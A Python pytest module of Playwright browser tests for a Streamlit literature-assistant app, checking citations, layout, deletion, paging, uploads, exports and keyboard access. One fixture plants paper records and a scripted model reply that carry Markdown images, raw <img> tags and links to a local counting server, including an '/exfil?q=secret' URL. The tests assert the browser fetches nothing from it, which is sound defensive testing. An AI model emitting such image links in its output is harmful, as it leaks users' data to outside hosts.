"""The app end to end in a real browser: `streamlit run` on 127.0.0.1, Debian's chromium driven by Playwright's
client, at desktop (1440x900) and phone (390x844) sizes.

One server for the module, on a copy of the seed library with two planted papers whose text holds Markdown
images pointing at a counting server on another port, and an OpenAI-compatible server (scripted) whose reply
holds an image and raw HTML. Every page records every request it makes: a request to any other origin fails
the test, and the counting server must see nothing. Screenshots go to artifacts/.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from assistant.ui.evidence import evidence_rows
from browser import (
    CHROMIUM,
    DESKTOP,
    PHONE,
    QUESTION_BOX,
    ask,
    close_drawer,
    launch,
    open_app,
    overflowing,
    record_requests,
    same_origin,
    serve,
    wait_until_idle,
)
from scripted_openai import pixel_server, scripted_openai

from assistant import Assistant, display_title
from assistant.claims import claims, marker_claims

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "artifacts"
SHOTS = ROOT / "shots"  # screenshots for the closing note (not committed)
VIEWPORTS = ["desktop", "phone"]  # the `page` fixture sizes the window by the test's name
QUESTION = "How does multi-agent reinforcement learning scale to many agents?"
PLANTED_QUESTION = "How do octopus swarm robots share their sensor maps?"
BIB = """@article{cooper2022, title={Cooperative Routing of Reviewer Experts}, author={Doe, Jane}, year={2022},
abstract={We route each submitted paper to a few expert reviewer models and show that sparse cooperative routing
improves assignment accuracy while reducing the number of reviews each expert must write.}}
"""


def planted(pixel: int) -> str:
    """Two papers whose text tries every way Markdown has to make a browser fetch something."""
    image = f"![p](http://127.0.0.1:{pixel}/pixel.png)"
    return "\n".join(
        json.dumps(record)
        for record in [
            {
                "id": "planted-1",
                "title": f"Octopus swarm robots {image} http://127.0.0.1:{pixel}/title-link",
                "abstract": f"Octopus swarm robots share their sensor maps through a gossip protocol "
                f"over acoustic links. "
                f"{image} <img src=http://127.0.0.1:{pixel}/raw.png> Each robot merges the maps of its "
                f"neighbours and the swarm converges on one shared map of the reef. "
                f"[more](http://127.0.0.1:{pixel}/link) <http://127.0.0.1:{pixel}/auto>",
                "url": f"http://127.0.0.1:{pixel}/landing",
                "year": 2023,
            },
            {
                "id": "planted-2",
                "title": "Sensor map sharing in octopus-inspired robot swarms",
                "abstract": f"We study how octopus-inspired robot swarms share sensor maps. "
                f"![x](http://127.0.0.1:{pixel}/two.png) "
                "Swarm robots that gossip their sensor maps reach consensus faster than robots that broadcast.",
                "doi": "10.1000/octo.2",
                "year": 2022,
            },
        ]
    )


@pytest.fixture(scope="module")
def chromium() -> Iterator:
    """One browser for the module (Playwright's sync API allows one instance per thread)."""
    if not CHROMIUM.exists():
        pytest.skip(f"no chromium at {CHROMIUM} (apt-get install chromium)")
    pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def site(seeded_home: Path, tmp_path_factory: pytest.TempPathFactory, chromium) -> Iterator[dict]:
    ARTIFACTS.mkdir(exist_ok=True)
    home = tmp_path_factory.mktemp("browser") / "home"
    shutil.copytree(seeded_home, home)
    with pixel_server() as (pixel, hits):
        papers = home.parent / "planted.jsonl"
        papers.write_text(planted(pixel), encoding="utf-8")
        assert Assistant(home=home).ingest([papers]).new == 2
        reply = (f"Octopus swarms gossip their sensor maps [1]. ![status](http://127.0.0.1:{pixel}/exfil?q=secret) "
                 f"<img src=\"http://127.0.0.1:{pixel}/html.png\"> [site](http://127.0.0.1:{pixel}/md-link)")
        with scripted_openai(reply) as (base_url, model), \
                serve(home, {"LITASSIST_LLM_PROVIDER": "offline", "OPENAI_BASE_URL": base_url},
                      log=ARTIFACTS / "ui-browser-server.log") as url:
            yield {"url": url, "home": home, "browser": chromium, "hits": hits, "model": model}
    assert hits == [], f"the browser fetched from the planted server: {hits}"


@pytest.fixture()
def page(site: dict, request: pytest.FixtureRequest) -> Iterator:
    """A fresh page (a new session) at the size the test names; fails if it requested anything off-origin."""
    viewport = PHONE if "phone" in request.node.name else DESKTOP
    page = site["browser"].new_page(viewport=viewport)
    requests = record_requests(page)
    open_app(page, site["url"])
    yield page
    foreign = sorted({r for r in requests if not same_origin(r, site["url"])})
    page.close()
    assert foreign == [], f"requests beyond the app's origin: {foreign}"
    assert site["hits"] == [], f"the browser fetched from the planted server: {site['hits']}"


def open_conversation_id(page) -> str:
    return parse_qs(urlsplit(page.url).query)["c"][0]


def in_view(page, locator) -> bool:
    """Whether the element lies wholly inside the window, once it has stopped moving (drawers slide in)."""
    box, previous = locator.bounding_box(), None
    for _ in range(20):
        if box == previous:
            break
        page.wait_for_timeout(150)
        previous, box = box, locator.bounding_box()
    size = page.viewport_size
    return bool(box) and box["x"] >= -1 and box["y"] >= -1 and box["x"] + box["width"] <= size["width"] + 1 \
        and box["y"] + box["height"] <= size["height"] + 1


def last_turn(home: Path, conversation_id: str):
    return Assistant(home=home).conversation(conversation_id).turns[-1]


def claim_marker(home: Path, conversation_id: str):
    """(marker index, the sentences it should highlight, the turn) for a marker of the last answer whose claim
    has a located span."""
    turn = last_turn(home, conversation_id)
    found = claims(turn.answer)
    for index, marker in enumerate(marker_claims(turn.answer)):
        if marker.claim is None:
            continue
        supports = [s for s in found[marker.claim].citations if s.number == marker.numbers[0]]
        if supports and supports[0].spans:
            return index, [span.text for span in supports[0].spans], turn
    raise AssertionError("no claim of the answer has a located span")


def reference(page, turn_id: int, number: int):
    """The reference-list button of citation [number] under the answer of turn `turn_id`."""
    return page.locator(f".st-key-answer-{turn_id}-{number} button")


def drawer_marks(page) -> list[str]:
    """The highlighted stretches of the paper in the open drawer, once the drawer has settled."""
    marks = page.get_by_role("dialog").locator("mark")
    marks.first.wait_for(timeout=30_000)
    seen, previous = None, None
    for _ in range(40):
        seen = [" ".join(t.split()) for t in marks.all_inner_texts()]
        if seen and seen == previous:
            break
        previous = seen
        page.wait_for_timeout(250)
    return seen


def test_citations_open_the_source_with_its_sentence_and_conversations_last(page, site: dict) -> None:
    answer_message = ask(page, QUESTION, 1)
    conversation_id = open_conversation_id(page)
    index, sentences, turn = claim_marker(site["home"], conversation_id)
    answer = turn.answer
    marker = answer_message.locator(f'button.la-cite[data-marker="{index}"]')
    number = int(marker.get_attribute("data-number"))
    cited = next(c for c in answer.citations if c.number == number)
    assert marker.get_attribute("title").startswith(cited.title[:40])  # the title on hover

    marker.click()  # the inline [n]: the drawer opens where the user is, the claim's own sentence marked
    dialog = page.get_by_role("dialog")
    assert drawer_marks(page) == [" ".join(s.split()) for s in sentences]
    assert in_view(page, dialog.locator("h4")) and dialog.locator("h4").inner_text().startswith(cited.title[:30])
    assert in_view(page, dialog.locator("mark").first)
    page.screenshot(path=str(ARTIFACTS / "ui-source-desktop.png"))
    close_drawer(page)

    reference(page, turn.turn_id, number).click()  # the same paper from the reference list under the answer
    expected = {" ".join(s.text.split()) for claim in claims(answer) for support in claim.citations
                if support.number == number for s in support.spans}
    assert set(drawer_marks(page)) == expected
    close_drawer(page)

    second = ask(page, "Which of them use mean field theory?", 2)
    assert in_view(page, second.get_by_text("Answer 2 ·")) or in_view(page, second.locator("button").first)
    assert in_view(page, page.get_by_placeholder(QUESTION_BOX))  # the input stays reachable

    sidebar = page.locator("[data-testid='stSidebar']")
    sidebar.get_by_role("button", name=re.compile("New conversation")).click()
    page.get_by_text("Answer 1 ·").wait_for(state="detached", timeout=60_000)
    ask(page, PLANTED_QUESTION, 1)
    listed = sidebar.locator(".st-key-conversation-list [data-testid='stButton']")
    assert listed.count() == 2  # newest first, each titled from its first question
    assert PLANTED_QUESTION[:20] in listed.nth(0).inner_text() and QUESTION[:20] in listed.nth(1).inner_text()
    listed.nth(1).get_by_role("button").first.click()  # back to the first conversation
    page.get_by_text("Answer 2 ·").wait_for(timeout=60_000)
    wait_until_idle(page)
    assert open_conversation_id(page) == conversation_id and page.get_by_text(PLANTED_QUESTION).count() == 0

    page.reload()  # every turn was saved as it happened: a reload restores the open conversation and the list
    page.get_by_text("Answer 2 ·").wait_for(timeout=120_000)
    wait_until_idle(page)
    page.wait_for_timeout(1000)  # the scroll to the newest turn
    assert page.get_by_text("Answer 1 ·").count() == 1 and open_conversation_id(page) == conversation_id
    assert listed.count() == 2 and QUESTION[:20] in listed.nth(1).inner_text()
    page.screenshot(path=str(ARTIFACTS / "ui-conversations-after-reload.png"))


def test_phone_sources_layout_and_nothing_overflows(page, site: dict) -> None:
    answer_message = ask(page, QUESTION, 1)
    assert in_view(page, page.get_by_placeholder(QUESTION_BOX))
    assert in_view(page, answer_message.locator("button.la-cite").last) or \
        answer_message.bounding_box()["y"] < page.viewport_size["height"]  # scrolled to the newest answer
    assert overflowing(page) == []
    index, sentences, _ = claim_marker(site["home"], open_conversation_id(page))
    answer_message.locator(f'button.la-cite[data-marker="{index}"]').click()
    dialog = page.get_by_role("dialog")
    assert drawer_marks(page) == [" ".join(s.split()) for s in sentences]
    assert in_view(page, dialog.locator("mark").first)  # scrolled into view by the app, not by the test
    box = dialog.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"] + 1  # the drawer fits the phone
    page.screenshot(path=str(ARTIFACTS / "ui-source-phone.png"))
    close_drawer(page)

    page.get_by_role("tab", name=re.compile("Explore")).click()
    page.locator(".la-legend").wait_for(timeout=180_000)
    wait_until_idle(page)
    assert page.locator(".la-legend").evaluate("e => getComputedStyle(e).display") == "flex"  # styles applied
    assert overflowing(page) == []
    page.screenshot(path=str(ARTIFACTS / "ui-explore-phone.png"))
    page.get_by_role("tab", name=re.compile("Library")).click()
    page.get_by_text("Browse").wait_for(timeout=60_000)
    wait_until_idle(page)
    assert overflowing(page) == []


def test_delete_asks_to_confirm_naming_every_paper(page, site: dict) -> None:
    page.get_by_role("tab", name=re.compile("Library")).click()
    wait_until_idle(page)  # a filter typed while the tab still draws can be lost (seen once under load)
    page.get_by_placeholder("e.g. reinforcement").fill("federated")
    page.keyboard.press("Enter")
    wait_until_idle(page)
    lib = Assistant(home=site["home"])
    shown = [p for p in lib.papers() if "federated" in " ".join([p.title, *p.authors, p.abstract,
                                                                   p.venue or "", p.paper_id]).lower()]
    assert len(shown) >= 2
    page.get_by_text(f"{len(shown)} of ").wait_for(timeout=60_000)  # the filtered table is drawn
    grid = page.locator("[data-testid='stDataFrame']").first
    box = grid.bounding_box()
    for row, label in ((0, "Delete 1 selected paper…"), (1, "Delete 2 selected papers…")):
        # the row markers of the first two rows (the grid draws on a canvas: 35 px rows under a 35 px header)
        wait_until_idle(page)
        page.wait_for_timeout(500)  # the canvas takes clicks once drawn
        page.mouse.click(box["x"] + 18, box["y"] + 35 + 35 * row + 17)
        page.get_by_role("button", name=label).wait_for(timeout=60_000)
    page.get_by_role("button", name="Delete 2 selected papers…").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text("Delete 2 papers from the library?").wait_for(timeout=30_000)
    listed = dialog.locator(".st-key-confirm-items").inner_text()
    victims = [p for p in shown[:2]]
    assert all(p.paper_id in listed for p in victims)
    page.screenshot(path=str(ARTIFACTS / "ui-delete-confirmation.png"))
    dialog.get_by_role("button", name=re.compile("Delete 2 papers")).click()
    page.get_by_text(re.compile(r"^Deleted 2 papers")).wait_for(timeout=60_000)
    remaining = {p.paper_id for p in Assistant(home=site["home"]).papers()}
    assert not remaining & {p.paper_id for p in victims}


def test_the_browse_table_pages_desktop(page, site: dict) -> None:
    """Over 200 papers the table shows 200 rows a page, and "Next page" draws the rest (read a page at a time);
    the papers added for it go again after."""
    extra = site["home"].parent / "paging.jsonl"
    extra.write_text("\n".join(json.dumps({"id": f"zz-page-{i:02d}", "title": f"Paging paper {i}",
                                           "abstract": "A paper that fills the second page of the table."})
                               for i in range(30)), encoding="utf-8")
    lib = Assistant(home=site["home"])
    assert lib.ingest([extra]).new == 30
    try:
        titles = [display_title(p) for p in sorted(lib.papers(), key=lambda p: p.paper_id)]  # the table's order
        assert len(titles) > 200
        page.get_by_role("tab", name=re.compile("Library")).click()
        page.get_by_text(f"{len(titles)} of {len(titles)} papers · rows 1-200").wait_for(timeout=60_000)
        cells = page.locator("[data-testid='stDataFrame'] [role='gridcell']")  # the cells in view, for readers

        def cell(text: str) -> None:
            for _ in range(120):
                if text in cells.all_inner_texts():
                    return
                page.wait_for_timeout(500)
            raise AssertionError(f"{text!r} is not among the table's cells {cells.all_inner_texts()[:30]}")

        cell(titles[0])
        page.get_by_role("button", name=re.compile("Next page")).click()
        page.get_by_text(f"rows 201-{len(titles)}").wait_for(timeout=60_000)
        page.get_by_text("Page 2 of 2").wait_for(timeout=30_000)
        cell(titles[200])
        wait_until_idle(page)
        assert titles[0] not in cells.all_inner_texts()
        assert page.get_by_role("button", name=re.compile("Next page")).is_disabled()
        page.screenshot(path=str(ARTIFACTS / "ui-browse-page-2.png"))
    finally:
        Assistant(home=site["home"]).remove(sources=[extra])


def test_planted_images_and_a_model_reply_with_an_image_fetch_nothing(page, site: dict) -> None:
    """The planted papers in an answer, in the source drawer, in search and on the map; then a model whose
    reply holds an image, raw HTML and a link: all of it reaches the page as text."""
    ask(page, PLANTED_QUESTION, 1)
    turn = last_turn(site["home"], open_conversation_id(page))
    assert {c.paper_id for c in turn.answer.citations} & {"planted-1", "planted-2"}
    reference(page, turn.turn_id, turn.answer.citations[0].number).click()
    page.get_by_role("dialog").locator("h4").wait_for(timeout=30_000)
    assert page.get_by_role("dialog").locator("img").count() == 0
    links = page.get_by_role("dialog").locator("a").evaluate_all("els => els.map(a => a.href)")
    assert all(link.startswith(("https://doi.org/", "https://arxiv.org/", "http://127.0.0.1:")) for link in links)
    close_drawer(page)

    page.get_by_role("tab", name=re.compile("Library")).click()
    page.get_by_placeholder("e.g. scalable multi-agent reinforcement learning").fill("octopus swarm sensor maps")
    page.keyboard.press("Enter")
    wait_until_idle(page)
    page.get_by_text(re.compile(r"^1\. ")).first.click()
    wait_until_idle(page)
    page.get_by_role("tab", name=re.compile("Explore")).click()
    page.locator(".la-legend").wait_for(timeout=180_000)
    wait_until_idle(page)

    page.get_by_role("tab", name=re.compile("Chat")).click()
    sidebar = page.locator("[data-testid='stSidebar']")
    sidebar.locator("[data-testid='stSelectbox']").filter(has_text="Provider").locator("input").click()
    page.get_by_role("option", name="openai-compatible").click()
    wait_until_idle(page)
    reply = ask(page, "What do the octopus papers say?", 2)
    text = reply.locator(".la-text").inner_text()
    assert "![status](" in text and "<img" in text  # shown as the text it is
    assert reply.locator("img").count() == 0 and reply.locator(".la-text a").count() == 0
    assert site["model"].requests  # the scripted server really answered
    page.screenshot(path=str(ARTIFACTS / "ui-injection.png"))


def test_upload_through_the_widget(page, site: dict, tmp_path: Path) -> None:
    before = len(Assistant(home=site["home"]).papers())
    page.get_by_role("tab", name=re.compile("Library")).click()
    upload = tmp_path / "reviewers.bib"
    upload.write_text(BIB, encoding="utf-8")
    page.locator("input[type='file']").set_input_files(str(upload))
    page.get_by_text("reviewers.bib").wait_for(timeout=30_000)
    page.get_by_role("button", name=re.compile("Add to library")).click()
    wait_until_idle(page)
    new = page.locator("[data-testid='stMetric']").filter(has_text="New")
    new.get_by_text("1", exact=True).wait_for(timeout=60_000)
    sidebar = page.locator("[data-testid='stSidebar']")
    sidebar.get_by_text(re.compile(rf"^{before + 1} papers ·")).wait_for(timeout=30_000)
    assert (site["home"] / "uploads" / "reviewers.bib").read_text(encoding="utf-8") == BIB
    page.screenshot(path=str(ARTIFACTS / "ui-library.png"))


def deep_focus(page) -> dict:
    """The element with the keyboard focus, looking inside shadow roots (the [n] buttons live in one)."""
    return page.evaluate("""() => {
        let el = document.activeElement;
        while (el && el.shadowRoot && el.shadowRoot.activeElement) el = el.shadowRoot.activeElement;
        return el ? {tag: el.tagName.toLowerCase(), cls: el.className || '', marker: el.dataset?.marker ?? null,
                     label: el.getAttribute('aria-label') || '', text: el.textContent || '',
                     testid: el.dataset?.testid ?? null} : {};
    }""")


@pytest.mark.parametrize("size", VIEWPORTS)
def test_evidence_table_lists_every_paper_cited_first_and_exports_them(page, site: dict, size: str) -> None:
    message = ask(page, QUESTION, 1)
    turn = last_turn(site["home"], open_conversation_id(page))
    rows = evidence_rows(turn.answer)
    cited = [paper for paper, number, _ in rows if number is not None]
    assert cited and [p.paper_id for p, _, _ in rows[:len(cited)]] == [c.paper_id for c in turn.answer.citations]
    box = message.locator(f".st-key-evidence-box-{turn.turn_id}")
    box.get_by_text(f"Evidence: {len(rows)} papers looked at, {len(cited)} cited").wait_for(timeout=30_000)
    grid = box.locator("[data-testid='stDataFrame']")
    grid.wait_for(timeout=30_000)
    page.mouse.wheel(0, 50)  # a reader's scroll: the page stops holding the new question in view (scroll_anchor.js)
    box.evaluate("e => e.scrollIntoView({block: 'start', behavior: 'instant'})")
    assert grid.bounding_box()["height"] >= 35 * (len(rows) + 1)  # every row shown, no inner scrolling
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / f"evidence-table-{size}.png"))

    fmt = "CSL-JSON" if size == "desktop" else "RIS"
    # chosen with the keyboard, as a screen-reader user does: a click on Streamlit's combobox sometimes only focuses
    # it (seen on the phone with no script run at all), and its popover may take seconds to open on a loaded machine
    combo = box.locator("[data-testid='stSelectbox']").filter(has_text="Export format").get_by_role("combobox")
    combo.click()
    combo.press_sequentially(fmt)
    page.get_by_role("option", name=fmt).wait_for(timeout=30_000)
    combo.press("Enter")
    wait_until_idle(page)
    with page.expect_download(timeout=60_000) as download:
        box.get_by_role("button", name=re.compile(rf"Export all {len(rows)} \({fmt}\)")).click()
    saved = Path(download.value.path()).read_text(encoding="utf-8")
    assert download.value.suggested_filename.startswith("litassist-how-does-multi-agent-reinforcement")
    if fmt == "CSL-JSON":
        assert [item["title"] for item in json.loads(saved)] == [p.title for p, _, _ in rows]
    else:
        assert [line[6:] for line in saved.splitlines() if line.startswith("TI  - ")] == \
            [" ".join(p.title.split()) for p, _, _ in rows]
    copied = message.get_by_text("Copy answer with references")
    copied.click()
    code = message.locator("[data-testid='stCode']")
    code.wait_for(timeout=30_000)
    assert "**References**" in code.inner_text() and f"[1] {turn.answer.citations[0].title[:30]}" in code.inner_text()


@pytest.mark.parametrize("size", VIEWPORTS)
def test_keyboard_only_ask_open_a_citation_and_close_with_focus_back(page, site: dict, size: str) -> None:
    page.keyboard.press("Tab")  # a fresh page: nothing has the focus
    assert deep_focus(page)["text"] == "Skip to the question box"  # the first Tab stop
    page.keyboard.press("Enter")
    assert deep_focus(page)["testid"] == "stChatInputTextArea"
    page.keyboard.type(QUESTION)
    page.keyboard.press("Enter")
    messages = page.locator("[data-testid='stChatMessage']")
    messages.last.get_by_text("Answer 1 ·", exact=False).wait_for(timeout=120_000)
    wait_until_idle(page)
    turn = last_turn(site["home"], open_conversation_id(page))
    for _ in range(150):  # Tab on until an [n] of the answer has the focus
        page.keyboard.press("Tab")
        focused = deep_focus(page)
        if "la-cite" in focused.get("cls", ""):
            break
    else:
        raise AssertionError("no [n] button is reachable with Tab")
    number = int(focused["text"])
    title = next(c.title for c in turn.answer.citations if c.number == number)
    assert focused["label"].startswith(f"{number}: {title[:30]}")  # named by its paper, not "button 1"
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog")
    dialog.locator("h4").wait_for(timeout=30_000)
    assert dialog.locator("h4").inner_text().startswith(title[:30])
    close_drawer(page)
    page.wait_for_timeout(1500)  # the focus is put back once the rerun after closing has drawn
    back = deep_focus(page)
    assert "la-cite" in back.get("cls", "") and back["marker"] == focused["marker"]
    tabs = page.get_by_role("tab")
    assert [" ".join(t.split()) for t in tabs.all_inner_texts()] == ["Chat", "Explore", "Library"]  # no icon words
    for index in range(tabs.count()):
        box = tabs.nth(index).bounding_box()
        assert box["height"] >= 24 and box["width"] >= 24
    marker = page.locator("button.la-cite").first.bounding_box()
    assert marker["width"] >= 24 and marker["height"] >= 24  # the tap target of an inline [n]


SLOW_REPLY = "Mean-field methods let reinforcement learning scale to many agents [1]."


@pytest.fixture(scope="module")
def slow_site(seeded_home: Path, tmp_path_factory: pytest.TempPathFactory, chromium) -> Iterator[dict]:
    """The seed library answered by a model that takes 6 s before each reply: time to click while it works."""
    ARTIFACTS.mkdir(exist_ok=True)
    home = tmp_path_factory.mktemp("slow") / "home"
    shutil.copytree(seeded_home, home)
    with scripted_openai(SLOW_REPLY, delay=6) as (base_url, model), \
            serve(home, {"LITASSIST_LLM_PROVIDER": "openai-compatible", "OPENAI_BASE_URL": base_url,
                         "LITASSIST_LLM_MODEL": "scripted"}, log=ARTIFACTS / "ui-browser-slow-server.log") as url:
        yield {"url": url, "home": home, "browser": chromium, "model": model}


@pytest.mark.parametrize("size", VIEWPORTS)
def test_second_question_and_source_click_during_an_answer_lose_nothing(slow_site: dict, size: str) -> None:
    page = slow_site["browser"].new_page(viewport=PHONE if size == "phone" else DESKTOP)
    requests = record_requests(page)
    open_app(page, slow_site["url"])
    ask(page, QUESTION, 1)
    conversation_id = open_conversation_id(page)
    follow, queued = "Which of them use mean field theory?", "How are they evaluated?"
    page.get_by_placeholder(QUESTION_BOX).fill(follow)
    page.keyboard.press("Enter")
    messages = page.locator("[data-testid='stChatMessage']")
    messages.filter(has_text=follow).first.wait_for(timeout=30_000)
    assert [t.question for t in Assistant(home=slow_site["home"]).conversation(conversation_id).turns] == \
        [QUESTION, follow]  # saved the moment it was sent, before its answer

    page.get_by_placeholder(QUESTION_BOX).fill(queued)  # a third question at once: it waits its turn
    page.keyboard.press("Enter")
    page.get_by_text("Waiting: answered after the question before it.").wait_for(timeout=30_000)
    page.locator("button.la-cite").first.click()  # a source of the one answer so far, while the model works
    page.get_by_role("dialog").locator("mark").first.wait_for(timeout=30_000)
    page.keyboard.press("Escape")
    saved = Assistant(home=slow_site["home"]).conversation(conversation_id)
    assert [t.question for t in saved.turns] == [QUESTION, follow, queued]

    page.reload()  # the questions are there (answered or not yet), and their answers arrive in order
    page.get_by_text(follow).first.wait_for(timeout=60_000)
    page.get_by_text(queued).first.wait_for(timeout=60_000)
    page.get_by_text("Answer 3 ·").wait_for(timeout=120_000)
    wait_until_idle(page)
    done = Assistant(home=slow_site["home"]).conversation(conversation_id)
    assert [(n, t.question) for n, t in done.numbered()] == [(1, QUESTION), (2, follow), (3, queued)]
    page.wait_for_timeout(3500)  # the scroll to the newest turn (repeated while the answer grows)
    page.screenshot(path=str(ARTIFACTS / f"ui-queued-answers-{size}.png"))
    assert in_view(
        page, messages.filter(has_text=queued).first.locator("p").first
    )  # the answer lands under its question
    page.screenshot(path=str(ARTIFACTS / f"ui-queued-answers-{size}.png"))
    foreign = sorted({r for r in requests if not same_origin(r, slow_site["url"])})
    page.close()
    assert foreign == [], f"requests beyond the app's origin: {foreign}"
